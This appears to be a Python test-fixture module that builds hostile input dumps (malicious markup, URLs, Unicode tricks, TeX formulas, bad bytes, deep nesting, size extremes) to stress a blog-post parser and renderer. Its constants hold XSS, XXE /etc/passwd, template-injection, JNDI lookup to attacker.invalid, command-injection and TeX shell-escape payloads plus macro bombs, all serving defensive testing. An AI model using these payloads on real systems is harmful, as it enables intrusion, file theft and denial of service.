r"""Dumps that an attacker, or bad luck, might write: each as bytes, small or large.

The strings are of this project's own making; each stands in a title, a paragraph, a caption, a point, a link and a
formula in turn.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import pairwise
from typing import Final

MARKUP: Final = (
    "<script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>a</a>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</math><script>alert(1)</script>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>",
    "]]><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>",
    "<?php system('id') ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&notanentity; &#0; &#x110000; &amp",
    "<meta http-equiv=refresh content='0;url=http://attacker.invalid/'>",
    "<link rel=stylesheet href=http://attacker.invalid/x.css>",
    "<base href=http://attacker.invalid/>",
    "<form action=http://attacker.invalid/><button>",
    "<object data=http://attacker.invalid/></object>",
    "<template shadowrootmode=open><script>alert(1)</script>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} {# #} \\VAR{title} \\BLOCK{include \"/etc/passwd\"} %# comment",
    "${jndi:ldap://attacker.invalid/a} $(touch stolen) `touch stolen` ; touch stolen | touch stolen",
    "%s %n %x {0} {} {title.__class__}",
)
ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//attacker.invalid/x",
    'http://attacker.invalid/" onclick="alert(1)',
    "https://attacker.invalid/'><script>alert(1)</script>",
    "https://例え.テスト/ü?a=b&c=d#e%",
    "https://" + "a" * 3000,
)
TEXTS: Final = (
    "\u202eright to left\u202c and \u2066isolated\u2069 and \u2067never closed",
    "zero\u200bwidth\u200cjoiners\u200d and\ufeffmarks\u2060 and soft\u00adhyphens",
    "a" + "\u0301" * 200 + " 汉" + "\u20dd" * 50,
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 \U0001f1e8\U0001f1f3 \U000e0001",
    "controls \x00\x01\x02\x08\x0b\x0c\x0e\x1b[31mred\x1b[0m\x7f and \x80\x85\x9b31m\x9f",
    "lines\u2028and\u2029paragraphs\x85and\x0bmore\x0c",
    "noncharacters \ufffe\uffff\U0001fffe\U0010ffff and private \ue000\U000f0000",
    "العربية עברית ไทย हिन्दी བོད ភាសា",
    "𝕬𝖇𝖈 𝒜 ℵ ﬁ ﬀ Ⅷ ㍿ ﷽",
    "\ufb1d\u0f0b\u1160\u3164\u115f",
    "１２３４ ＡＢＣ ｶﾅ",
    "../../../../etc/passwd ..\\..\\windows C:\\CON NUL aux.txt -rf --out=/ ~root $HOME",
    "a" * 5000,
    "汉" * 5000,
    "\\" * 300 + "{}" * 300 + "_^&#%~$" * 50,
    "[" * 2000 + "(" * 2000 + "`" * 2001 + "*" * 2000,
)
FORMULAS: Final = (
    r"\text{</math><script>alert(1)</script>}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\href{javascript:alert(1)}{x}",
    r"\style{background:url(http://attacker.invalid/)}{x}",
    r"\class{x\" onclick=\"alert(1)}{x}",
    r"\cssId{a}{x} \data{a=b}{x} \unicode{x3c}",
    r"\color{red;background:url(http://attacker.invalid/)}{x}",
    r"\color{\"><script>alert(1)</script>}{x}",
    r"\require{html} \includegraphics{http://attacker.invalid/a.png}",
    r"\label{\"><script>alert(1)</script>}\tag{<script>alert(1)</script>} x",
    r"\eqref{\" onclick=\"alert(1)} \ref{<script>}",
    r"\begin{script}alert(1)\end{script}",
    r"\input{CANARY}",
    r"\input CANARY ",
    r"^^5cinput{CANARY}",
    r"\^^69nput{CANARY}",
    r"\csname input\endcsname{CANARY}",
    r"\expandafter\input\expandafter{CANARY}",
    r"\newread\r\openin\r=CANARY \read\r to\x \x",
    r"\immediate\openout15=STOLEN \immediate\write15{x}",
    r"\immediate\write18{touch STOLEN}",
    r"\directlua{os.execute('touch STOLEN')}",
    r"\special{pdf:fstream @a (CANARY)} \special{dvipdfmx:config o STOLEN}",
    r"\XeTeXpicfile CANARY  \lstinputlisting{CANARY} \verbatiminput{CANARY}",
    r"\catcode`\@=11 \@@input CANARY ",
    r"\gdef\textbf{gone}\gdef\par{gone}\global\let\end\relax",
    r"\def\x{\x}\x",
    r"\def\x{\x\x}\x",
    r"\def\x#1{\x{#1#1}}\x{a}",
    r"\loop\iftrue\repeat",
    r"\end{document}",
    r"\end{equation}\end{document}",
    r"$x$ $$ y",
    r"\bye \stop \batchmode \errorstopmode \shipout\hbox{}",
    r"\makeatletter \dump \aftergroup\input",
    r"\text{$\text{$\text{$x$}$}$}",
    r"\frac",
    r"\left( x \right",
    r"x^",
    r"x^^^^0041_",
    r"{",
    r"}",
    r"\begin{align}",
    r"\end{align}",
    r"\\" * 5,
    "%comment \n x",
    "\\ \\\t\\\n x",
    "\u202e x \u2066 \x00 \ufffe",
)
DAYS: Final = (
    "31 Feb",
    "0 Jan",
    "99 Xyz",
    "-1 Apr",
    "1e9 May",
    "１２ Apr",
    "12 Apr 99999999999999",
    "29 Feb 1900",
    "12 Apr\u202e",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A dump; ``make`` takes how large it shall be: 1 for every test run, more for ``make hostile``."""

    make: Callable[[int], bytes]
    readable: bool = True  # whether a post can be found in it
    heavy: bool = False  # whether it is only built as a page, because it is about size


def post(title: str, *paragraphs: str, day: str = "18 Apr") -> str:
    return "\n\n".join((day, title, *paragraphs)) + "\n\n"


def every_place(text: str) -> Iterator[str]:
    """A post with ``text`` in its title, body, heading, caption, points, link, code and table."""
    line = " ".join(text.split("\n"))
    yield post(
        line[:150],
        f"前{text}后。",
        line[:50],
        "一段话,在标题之后。",
        f"图:{line}",
        f"图:{line}",
        f"1、{text}\n2、第二点",
        f"[{line}](https://example.org/) 与 `{line}`",
        f"> {line}",
        f"    print('{line}')\n    return 0",
        "点击阅读全文...",
    )


def _markup(_size: int) -> bytes:
    return "".join(piece for text in MARKUP for piece in every_place(text)).encode()


def _texts(_size: int) -> bytes:
    return "".join(piece for text in TEXTS for piece in every_place(text)).encode("utf-8", "surrogatepass")


def _addresses(_size: int) -> bytes:
    links = "\n\n".join(f"[词]({url}) {url} <{url}>" for url in ADDRESSES)
    return post("地址", links).encode()


def _formulas(_size: int) -> bytes:
    posts = (
        post(
            f"公式{number} ${tex}$",
            f"行内${tex}$与\\({tex}\\)。",
            f"$${tex}$$",
            f"\\begin{{equation}}{tex}\\end{{equation}}",
        )
        for number, tex in enumerate(FORMULAS)
    )
    return "".join(posts).encode()


def _days(_size: int) -> bytes:
    return (post("真的一天", "正文。") + "".join(post("一篇文章", "正文。", day=day) for day in DAYS)).encode()


def _bytes(_size: int) -> bytes:
    good = post("好的", "正文。").encode()
    bad = b"\xed\xa0\x80 \xed\xbf\xbf \xc0\xaf \xf5\x90\x80\x80 \xff\xfe \x80 \xe6\xb1"
    return good + b"19 Apr\n\n" + bad + b"\n\n" + bad + b"\n\r\r\n\n" + good


def _deep(size: int) -> bytes:
    """100,000 deep at full size."""
    depth = 10_000 * min(size, 10)
    shapes = (
        "{" * depth + "x" + "}" * depth,
        r"\frac{" * depth + "x",
        r"\left(" * depth + r"\right)" * depth,
        r"\begin{matrix}" * depth,
        r"\text{" * depth,
        r"\sqrt{" * depth + "}" * depth,
        "x" + "'" * depth,
        "x" + "^{x" * depth + "}" * depth,
        r"\operatorname{" + " " * depth + "}",
        r"\begin{aligned}" + "&" * depth + r"\end{aligned}",
        r"\begin{aligned}" + r"\\" * depth + r"\end{aligned}",
    )
    return "".join(post("深", f"行内${tex}$。", f"$${tex}$$") for tex in shapes).encode()


def _bombs(size: int) -> bytes:
    """Macros that double: thirty lines would make a thousand million characters."""
    names = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefgh"
    doubling = "".join(rf"\newcommand{{\z{new}}}{{\z{old}\z{old}}}" for old, new in pairwise(names))
    tripling = r"\def\a#1{#1#1#1}" + r"\a{" * 40 + "x" + "}" * 40
    posts = [post("弹", rf"$\newcommand{{\zA}}{{x}}{doubling} \zh$", f"${tripling}$", "余下的正文。")]
    return "".join(posts * size).encode()


def _quotes(size: int) -> bytes:
    """As many points in one another as an indentation of a few megabytes can say, at full size."""
    depth = 50 * min(size, 40)
    lines = "\n\n".join(f"{'>' * depth} 引" for _ in range(20))
    points = "\n".join(f"{'  ' * level}1、点" for level in range(depth))
    return post("套", lines, points).encode()


def _unclosed(size: int) -> bytes:
    count = 5_000 * size
    lines = (
        "$x " * count,
        "\\( " * count,
        "\\[ " * count,
        "$$ " * count + "$",
        "`" * count,
        "[a](" * count,
        "《" * count,
        "好~~" * count,
        "#!/bin/sh" + " #" * count + '"\n    x',
    )
    environments = r"\begin{equation} " * count
    return "".join(post("未闭", line) for line in (*lines, environments)).encode()


def _long_line(size: int) -> bytes:
    """50 MB at full size, in one line."""
    return post("一行", "这是很长的一行,没有尽头 and $x^2$ it goes on: " * (6_000 * size)).encode()


def _empty_posts(size: int) -> bytes:
    """A million at full size."""
    return "".join(f"18 Apr\n\n标题{number}\n\n" for number in range(2_000 * size)).encode()


def _blank(size: int) -> bytes:
    return (post("空", "正文。") + "\n \t\u3000\n" * (50_000 * size)).encode()


def _formula_crowd(size: int) -> bytes:
    return post("群", "".join(f"$x_{{{number}}}$ " for number in range(500 * size))).encode()


HOSTILE: Final[dict[str, Hostile]] = {
    "markup": Hostile(_markup),
    "texts": Hostile(_texts),
    "addresses": Hostile(_addresses),
    "formulas": Hostile(_formulas),
    "days": Hostile(_days),
    "bytes": Hostile(_bytes),
    "deep": Hostile(_deep),
    "bombs": Hostile(_bombs),
    "quotes": Hostile(_quotes),
    "unclosed": Hostile(_unclosed),
    "long-line": Hostile(_long_line, heavy=True),
    "empty-posts": Hostile(_empty_posts, heavy=True),
    "blank": Hostile(_blank, heavy=True),
    "formula-crowd": Hostile(_formula_crowd, heavy=True),
    "nothing": Hostile(lambda _: b"", readable=False),
    "zeros": Hostile(lambda size: b"\x00" * (1000 * size), readable=False),
    "noise": Hostile(
        lambda size: bytes((number * 7919 + number // 256) % 256 for number in range(4000 * size)), readable=False
    ),
}
